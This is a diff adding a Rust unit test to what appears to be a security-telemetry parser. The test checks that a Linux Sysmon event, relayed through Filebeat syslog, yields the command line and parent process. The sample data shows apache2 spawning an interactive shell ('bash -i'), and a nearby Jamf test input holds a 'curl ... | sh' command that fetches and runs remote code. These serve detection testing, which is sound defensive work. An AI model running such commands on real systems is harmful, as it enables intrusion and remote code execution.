@@ -5340,6 +5340,13 @@ mod tests {
             q.doc["process"]["command_line"], "wscript.exe a.js",
             "single-quoted attributes"
         );
+        // Filebeat's syslog input names the program that logged the line (`sysmon`) as the
+        // process: the event in the line is what ran.
+        let f = from_json(json!({"host": {"name": "web-1"}, "process": {"name": "sysmon", "pid": 812},
+            "log": {"file": {"path": "/var/log/syslog"}},
+            "message": "<Event><System><Provider Name=\"Linux-Sysmon\"/><EventID>1</EventID><Computer>web-1</Computer></System><EventData><Data Name=\"Image\">/usr/bin/bash</Data><Data Name=\"CommandLine\">bash -i</Data><Data Name=\"ParentImage\">/usr/sbin/apache2</Data><Data Name=\"User\">www-data</Data></EventData></Event>"}), "x").unwrap();
+        assert_eq!(f.doc["process"]["command_line"], "bash -i");
+        assert_eq!(f.doc["process"]["parent"]["name"], "apache2");
         // Jamf Protect's telemetry: numbered arguments, the exec chain's parent, the subject.
         let j = from_json(json!({"header": {"event_name": "AUE_EXECVE", "time_seconds_epoch": 1745834921},
             "exec_args": {"args": {"2": "-c", "1": "/bin/bash", "3": "curl -fsSL https://x/i.sh | sh"}},
